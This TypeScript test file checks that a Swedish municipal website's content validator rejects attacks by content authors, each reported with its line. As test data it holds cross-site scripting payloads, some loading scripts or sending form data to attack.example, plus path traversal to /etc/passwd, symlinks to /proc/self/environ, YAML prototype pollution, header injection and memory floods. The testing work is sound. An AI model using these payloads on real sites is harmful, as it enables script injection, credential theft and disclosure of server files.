/**
 * Attacks by someone who can write content, on readers or on the machine that builds the site. Each is reported with its line.
 */
import { readFile, rm, symlink } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import {
  AGREEMENT,
  changed,
  check,
  GLOSSARY,
  MUNICIPALITY,
  PARTIES,
  PROMISE,
  REPORT,
  STATEMENT,
  VALID,
  validFolder,
  withBody,
  type Files,
} from './content.ts';
import { writeFiles } from '../../project.ts';

/** How much memory one check may use. */
const MAX_MEGABYTES = 400;

let folder: string;

beforeEach(async () => {
  folder = await validFolder();
});

afterEach(async () => {
  await rm(folder, { recursive: true });
});

/** Returns the errors as `file:line message`. */
async function errors(): Promise<readonly string[]> {
  const { problems } = await check(folder);
  return problems
    .filter(({ severity }) => severity === 'error')
    .map(
      ({ file, line, message }) =>
        `${file.slice(file.indexOf(folder.slice(1)) + folder.length)}:${line} ${message}`,
    );
}

/** A description, the files with the attack, and the beginning of the expected `file:line message`. */
type Attack = readonly [description: string, files: Files, expected: string];

const LINK = 'Länken';
const HTML = 'HTML';
const inBody = (description: string, body: string, message: string): Attack => [
  description,
  withBody(PROMISE, body),
  `${PROMISE}:10 ${message}`,
];
const inTitle = (description: string, title: string, message: string): Attack => [
  description,
  changed(PROMISE, 'titel: Att öka tryggheten på torget.', title),
  `${PROMISE}:2 ${message}`,
];
const activities = (count: number, line: (index: number) => string) =>
  `---\ntitel: Allt.\nkortnamn: Allt\naktiviteter:\n${Array.from({ length: count }, (_, index) => line(index)).join('')}---\n`;

const CODE_IN_TEXT: readonly Attack[] = [
  inBody('a script', '<script>alert(1)</script>\n', HTML),
  inBody('a script in a sentence', 'Hej <script src="https://attack.example/x.js"></script>\n', HTML),
  inBody('an event handler', '<img src=x onerror=alert(1)>\n', HTML),
  inBody('a drawing with a script', '<svg onload="alert(1)"><script>alert(1)</script></svg>\n', HTML),
  inBody('a frame', '<iframe src="https://attack.example/"></iframe>\n', HTML),
  inBody('a form that asks for passwords', '<form action="https://attack.example/"><input></form>\n', HTML),
  inBody('a stylesheet', '<style>body { display: none }</style>\n', HTML),
  inBody('a comment that hides text', '<!-- dolt -->\n', HTML),
  inBody('a link that runs', '[Läs](javascript:alert(1))\n', LINK),
  inBody('a link that runs, in capitals', '[Läs](JaVaScRiPt:alert(1))\n', LINK),
  inBody('a link that runs, with a tab in it', '[Läs](java&#x09;script:alert(1))\n', LINK),
  inBody('a link that runs, spelt in entities', '[Läs](&#106;avascript:alert(1))\n', LINK),
  inBody('a link that runs, in angle brackets', '<javascript:alert(1)>\n', LINK),
  inBody('a link that runs, as a reference', '[Läs]: javascript:alert(1)\n\n[Läs]\n', LINK),
  inBody('a link that runs in an old browser', '[Läs](vbscript:msgbox(1))\n', LINK),
  inBody('a page inside a link', '[Läs](data:text/html;base64,PHNjcmlwdD4=)\n', LINK),
  inBody('a link to a file on the reader’s machine', '[Läs](file:///etc/passwd)\n', LINK),
  inBody('a link to another host without a protocol', '[Läs](//attack.example/)\n', LINK),
  inBody('a link to another host behind a backslash', '[Läs](/\\attack.example/)\n', LINK),
  inBody('a drawing in the address of a picture', '![Bild](data:image/svg+xml,%3Csvg/%3E)\n', 'Bilden'),
  inBody('a picture that tracks its readers', '![Bild](https://attack.example/x.png)\n', 'Bilden'),
  ['a script in an agreement', withBody(AGREEMENT, '<script>alert(1)</script>\n'), `${AGREEMENT}:7 ${HTML}`],
  ['a script in a follow-up', withBody(REPORT, '<script>alert(1)</script>\n'), `${REPORT}:7 ${HTML}`],
  [
    'a script in an introduction',
    withBody(MUNICIPALITY, '<script>alert(1)</script>\n'),
    `${MUNICIPALITY}:10 ${HTML}`,
  ],
  ['a script in a statement', withBody(STATEMENT, '<script>alert(1)</script>\n'), `${STATEMENT}:13 ${HTML}`],
  [
    'an MDX page among the promises',
    { 'content/bjorkhult/2017/tryggt-torg/t2.mdx': 'import "x"\n' },
    'content/bjorkhult/2017/tryggt-torg/t2.mdx:1 Filen hör inte till',
  ],
  [
    'a script among the content',
    { 'content/bjorkhult/x.js': 'alert(1)\n' },
    'content/bjorkhult/x.js:1 Filen hör inte till',
  ],
  [
    'a page that cannot be parsed',
    { 'content/sidor/om.mdx': '---\ntitel: Om\n---\n<script>{\n' },
    'content/sidor/om.mdx:',
  ],
  [
    'a website that runs',
    changed(MUNICIPALITY, 'https://www.bjorkhult.example', 'javascript:alert(1)'),
    `${MUNICIPALITY}:5 ”javascript:alert(1)” är ingen webbadress`,
  ],
  [
    'a source that runs',
    changed(AGREEMENT, 'titel: Medborgarlöfte 2017', 'titel: Löfte, adress: "javascript:alert(1)"'),
    `${AGREEMENT}:5 ”javascript:alert(1)” är ingen webbadress`,
  ],
  [
    'an address for error reports that runs',
    changed(MUNICIPALITY, 'kod:', 'felanmälan: "javascript:alert(1)"\nkod:'),
    `${MUNICIPALITY}:4 `,
  ],
  [
    'a colour that is a stylesheet',
    changed(MUNICIPALITY, 'kod:', 'färg: "#000;} body{display:none"\nkod:'),
    `${MUNICIPALITY}:4 ”#000;} body{display:none” är ingen färg`,
  ],
  [
    'an e-mail address with another recipient',
    changed(MUNICIPALITY, 'kommun@bjorkhult.example', '"a@b.example?bcc=c%40attack.example"'),
    `${MUNICIPALITY}:6 ”a@b.example?bcc=c%40attack.example” är ingen e-postadress`,
  ],
  [
    'an e-mail address with a second header',
    changed(MUNICIPALITY, 'kommun@bjorkhult.example', '"a@b.example\\nBcc: c@attack.example"'),
    `${MUNICIPALITY}:6 ”a@b.example Bcc: c@attack.example” är ingen e-postadress`,
  ],
  [
    'a phone number that is a command',
    changed(MUNICIPALITY, 'epost: kommun@bjorkhult.example', 'telefon: "*#06#;alert(1)"'),
    `${MUNICIPALITY}:6 `,
  ],
  [
    'a former address with a directive of a web server',
    changed(PROMISE, 'kortnamn:', 'tidigare: ["2017/a;} location / {"]\nkortnamn:'),
    `${PROMISE}:3 `,
  ],
  [
    'a former address with a second line',
    changed(PROMISE, 'kortnamn:', 'tidigare: ["2017/a\\nb"]\nkortnamn:'),
    `${PROMISE}:3 `,
  ],
  [
    'a former address of another municipality’s page',
    changed(PROMISE, 'kortnamn:', 'tidigare: [/sok/2017/a/]\nkortnamn:'),
    `${PROMISE}:3 `,
  ],
];

const YAML_TRICKS: readonly Attack[] = [
  inTitle('anchors that expand exponentially', 'a: &a [x, x]\nb: &b [*a, *a]\ntitel: x', 'Tecknet & först'),
  inTitle('a tag that makes a function', 'titel: !!js/function "function () {}"', 'Tecknet ! först'),
  inTitle('a merge of other fields', '<<: {titel: x}', 'Fältet ”<<” finns inte här'),
  inTitle(
    'the prototype of every object',
    '__proto__: {titel: x}\ntitel: x',
    'Fältet ”__proto__” finns inte här',
  ),
  inTitle(
    'the constructor of every object',
    'constructor: {titel: x}\ntitel: x',
    'Fältet ”constructor” finns inte här',
  ),
  [
    'the prototype of every object among the figures',
    changed(REPORT, '{patruller: 4}', '{__proto__: 4}'),
    `${REPORT}:5 ”__proto__” kan inte vara ett id`,
  ],
  [
    'the constructor of every object among the figures',
    changed(REPORT, '{patruller: 4}', '{constructor: 4}'),
    `${REPORT}:5 Aktiviteten ”fotpatrull” har inget mått`,
  ],
  [
    'the prototype of every object among the parties',
    { [PARTIES]: '__proto__: {namn: X}\n' },
    `${PARTIES}:1 ”__proto__” kan inte vara ett id`,
  ],
  [
    'an activity named like a property of every object',
    changed(REPORT, 'aktivitet: fotpatrull', 'aktivitet: constructor'),
    `${REPORT}:3 Aktiviteten ”constructor” finns inte`,
  ],
  inTitle('a character that ends strings', 'titel: Att \u0000 öka', 'Här står ett osynligt tecken (U+0000)'),
  inTitle(
    'a character that reverses the reading direction',
    'titel: Att \u202E öka',
    'Här står ett osynligt tecken (U+202E)',
  ),
  inTitle(
    'a character that controls a terminal',
    'titel: Att \u001B[2J öka',
    'Här står ett osynligt tecken (U+001B)',
  ),
];

const PATHS_OUT: readonly Attack[] = [
  inBody(
    'a picture outside the folder',
    '![Bild](../../../../../etc/passwd)\n',
    'Bilden ”../../../../../etc/passwd” ligger inte på webbplatsen',
  ),
  inBody(
    'a picture outside the root',
    '![Bild](/../../../etc/passwd)\n',
    'Filen ../../../etc/passwd finns inte',
  ),
  inBody(
    'a picture outside the root, encoded',
    '![Bild](/%2e%2e/%2e%2e/etc/passwd)\n',
    'Filen ../../etc/passwd finns inte',
  ),
  inBody('a picture with an invalid encoding', '![Bild](/%E0%A4%A)\n', 'Filen %E0%A4%A finns inte'),
  inBody(
    'a picture on the machine',
    '[b]: file:///etc/passwd\n\n![Bild][b]\n',
    'Bilden ”file:///etc/passwd” ligger inte på webbplatsen',
  ),
  ...[
    '/etc/passwd',
    '../../etc/passwd',
    'kallor/../../package.json',
    './kallor/lofte-2017.txt',
    'C:\\Windows\\win.ini',
  ].map((path): Attack => [
    `a source at ${path}`,
    changed(AGREEMENT, 'titel: Medborgarlöfte 2017', `titel: Löfte, fil: '${path}'`),
    `${AGREEMENT}:5 `,
  ]),
  ...['/etc/passwd.svg', '../../x.svg', 'a/../../x.svg', 'https://attack.example/x.svg'].map(
    (path): Attack => [
      `a crest at ${path}`,
      changed(MUNICIPALITY, 'kod:', `vapen: '${path}'\nkod:`),
      `${MUNICIPALITY}:4 `,
    ],
  ),
  ...['2017/../../etc', '/bjorkhult/2017/../../etc/', '2017/..', '//attack.example/2017/a/'].map(
    (address): Attack => [
      `a former address at ${address}`,
      changed(PROMISE, 'kortnamn:', `tidigare: ['${address}']\nkortnamn:`),
      `${PROMISE}:3 `,
    ],
  ),
  [
    'an activity whose address is outside the promise',
    changed(PROMISE, 'id: fotpatrull', 'id: ../../x'),
    `${PROMISE}:5 ”../../x” kan inte vara ett id`,
  ],
  [
    'a renewed promise outside the year',
    changed(PROMISE, 'kortnamn:', 'förnyar: 2016/../../x\nkortnamn:'),
    `${PROMISE}:3 `,
  ],
];

const NAMES: readonly Attack[] = [
  ...['CON', 'Å', '😀', 'bj\u202Eork', 'a b', '-a', 'a..b', '%2e%2e', 'a;b', "a'b", '$(x)', '__proto__'].map(
    (name): Attack => [
      `a municipality named ${JSON.stringify(name)}`,
      { [`content/${name}/kommun.md`]: VALID[MUNICIPALITY]! },
      `content/${name}:1 Namnet `,
    ],
  ),
  [
    'a municipality with the name of a Windows device',
    { 'content/con/kommun.md': VALID[MUNICIPALITY]! },
    'content/con:1 Ingen mapp eller fil kan heta ”con”',
  ],
  [
    'a promise with the name of a Windows device',
    { 'content/bjorkhult/2017/lpt1/lofte.md': VALID[PROMISE]! },
    'content/bjorkhult/2017/lpt1:1 Ingen mapp',
  ],
  ...['sok', 'admin', 'pagefind', 'om'].map((name): Attack => [
    `a municipality at the address /${name}/`,
    { [`content/${name}/kommun.md`]: VALID[MUNICIPALITY]! },
    `content/${name}:1 Adressen ”/${name}/” är webbplatsens egen`,
  ]),
  [
    'a promise at the address of a follow-up',
    { 'content/bjorkhult/2017/t1/lofte.md': VALID[PROMISE]! },
    'content/bjorkhult/2017/t1:1 Mappen ”t1” heter som en period',
  ],
  [
    'a year at the address of a page',
    { 'content/bjorkhult/tillganglighet/avtal.md': VALID[AGREEMENT]! },
    'content/bjorkhult/tillganglighet:1 Mappen ”tillganglighet” är inget årtal',
  ],
  [
    'follow-ups with invalid names',
    {
      'content/bjorkhult/2017/tryggt-torg/..x.md': '',
      'content/bjorkhult/2017/tryggt-torg/T1 .md': VALID[REPORT]!,
    },
    'content/bjorkhult/2017/tryggt-torg/T1 .md:1 Namnet',
  ],
];

const FLOODS: readonly Attack[] = [
  ['a file of 50 MB', { [PROMISE]: Buffer.alloc(50_000_000, 'a ') }, `${PROMISE}:1 Filen är större än 1 MB`],
  [
    '2,000 activities',
    { [PROMISE]: activities(2_000, (index) => `  - {id: a${index}, text: Något., typ: löpande}\n`) },
    `${PROMISE}:4 Listan ”aktiviteter” har fler än 500 delar`,
  ],
  [
    '2,000 misspelt activities',
    { [PROMISE]: activities(2_000, (index) => `  - {id: a${index}, tetx: Något.}\n`) },
    `${PROMISE}:`,
  ],
  [
    '2,000 results of unknown activities',
    {
      [REPORT]: `---\nredovisat:\n${Array.from({ length: 2_000 }, (_, index) => `  - {aktivitet: b${index}, text: Något.}\n`).join('')}---\n`,
    },
    `${REPORT}:2 Listan ”redovisat” har fler än 1 000 delar`,
  ],
  [
    '300 activities and results of as many unknown ones',
    {
      [PROMISE]: activities(
        300,
        (index) => `  - {id: aktivitet-nummer-${index}, text: Något., typ: löpande}\n`,
      ),
      [REPORT]: `---\nredovisat:\n${Array.from({ length: 300 }, (_, index) => `  - {aktivitet: aktivitet-numer-${index + 1000}, text: Något.}\n`).join('')}---\n`,
    },
    `${REPORT}:3 Aktiviteten ”aktivitet-numer-1000” finns inte`,
  ],
  inBody('1,000 tags', '<b>x</b> y\n'.repeat(1000), HTML),
  inBody('nested quotations', `${'>'.repeat(10_000)} x\n`, 'Citat och listor ligger i varandra'),
  inBody('nested lists', `${'- '.repeat(5_000)}x\n`, 'Citat och listor ligger i varandra'),
  inTitle('nested brackets', `titel: ${'['.repeat(200_000)}`, 'Fält, listor och parenteser'),
  inTitle('nested brackets, all closed', `titel: ${'['.repeat(100_000)}${']'.repeat(100_000)}`, ''),
  [
    'nested fields',
    { [PARTIES]: Array.from({ length: 1300 }, (_, depth) => `${' '.repeat(depth)}a:\n`).join('') },
    `${PARTIES}:`,
  ],
  [
    'an extremely long name',
    changed(REPORT, 'aktivitet: fotpatrull', `aktivitet: ${'a'.repeat(900_000)}`),
    `${REPORT}:3 ”aaa`,
  ],
  [
    'an extremely long invalid id',
    changed(PROMISE, 'id: fotpatrull', `id: ${'a-'.repeat(400_000)}`),
    `${PROMISE}:5 `,
  ],
];

describe.each([
  ['code in text', CODE_IN_TEXT],
  ['YAML tricks', YAML_TRICKS],
  ['paths out of the folder', PATHS_OUT],
  ['names', NAMES],
  ['floods', FLOODS],
])('%s', (_, attacks) => {
  test.each(attacks)('%s', async (_, files, expected) => {
    await writeFiles(folder, files);
    const before = process.memoryUsage().rss;
    const found = await errors();
    expect(
      found.filter((error) => error.startsWith(expected)),
      found.slice(0, 3).join('\n').slice(0, 1000),
    ).not.toEqual([]);
    expect((process.memoryUsage().rss - before) / 1e6).toBeLessThan(MAX_MEGABYTES);
  });
});

describe('symbolic links', () => {
  const links: readonly (readonly [description: string, path: string, target: string])[] = [
    ['a follow-up that is a file on the machine', 'content/bjorkhult/2017/tryggt-torg/t2.md', '/etc/passwd'],
    ['a promise that is a folder on the machine', 'content/bjorkhult/2017/annat', '/etc'],
    ['a municipality that is the parent folder', 'content/annan', '..'],
    ['a link to something that does not exist', 'content/bjorkhult/2018', '/nonexistent'],
    ['pages that are a folder on the machine', 'content/sidor', '/etc'],
    ['a source that is a file on the machine', 'content/public/kallor/losen.txt', '/etc/passwd'],
    [
      'a source that is the environment of the build',
      'content/public/kallor/miljo.txt',
      '/proc/self/environ',
    ],
    ['pictures that are a folder on the machine', 'content/public/bilder', '/etc'],
    ['a source that is a file of the content', 'content/public/kallor/utkast.txt', '../../parter.yaml'],
  ];

  test.each(links)('%s', async (_, path, target) => {
    await symlink(target, join(folder, path));
    expect(await errors()).toEqual([expect.stringContaining(`${path}:1 Genvägen leder ut ur`)]);
  });
});

test('the content is valid without attacks', async () => {
  expect(await errors()).toEqual([]);
  expect(await readFile(join(folder, GLOSSARY), 'utf8')).toContain('tertial');
});
